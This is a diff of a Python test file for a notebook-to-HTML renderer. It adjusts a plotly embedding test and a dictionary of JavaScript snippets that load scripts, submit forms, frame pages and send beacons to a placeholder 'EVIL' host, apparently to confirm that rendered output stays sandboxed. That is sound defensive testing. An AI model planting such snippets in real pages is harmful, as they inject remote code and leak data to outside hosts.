@@ -76,7 +76,8 @@ def test_bokeh_draws(show: Show) -> None:
 
 def test_a_library_stands_once_in_a_page_however_many_want_it(samples: ModuleType) -> None:
     plot = samples.shown({"application/vnd.plotly.v1+json": {"data": []}, "text/plain": "x"})
-    one, two = (samples.render_task(samples.record(), samples.notebook(*[samples.code("1", plot)] * n)) for n in (1, 2))
+    cells = [samples.code("1", plot), samples.code("2", plot)]
+    one, two = (samples.render_task(samples.record(), samples.notebook(*cells[:n])) for n in (1, 2))
     assert one.count(library("plotly")) == two.count(library("plotly")) == 1
     assert len(one) < 2_500_000
     assert library("plotly") not in samples.render_task(samples.record(), samples.story())
@@ -98,7 +99,7 @@ QUIET = {
     "loads a script": "const s = document.createElement('script'); s.src = 'EVIL/s.js'; document.body.append(s)",
     "loads a style": "document.head.innerHTML += '<link rel=stylesheet href=EVIL/c><style>@import \"EVIL/d\"</style>'",
     "leads itself away": "location = 'EVIL/self'",
-    "sends a form": "document.body.insertAdjacentHTML('beforeend', '<form action=EVIL/form></form>'); document.forms[0].submit()",
+    "sends a form": "root.insertAdjacentHTML('afterend', '<form action=EVIL/f></form>'); document.forms[0].submit()",
     "frames another": "document.body.insertAdjacentHTML('beforeend', '<iframe src=EVIL/frame></iframe>')",
     "sends a beacon": "navigator.sendBeacon('EVIL/beacon', 'x')",
     "refreshes": "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=EVIL/meta\">'",
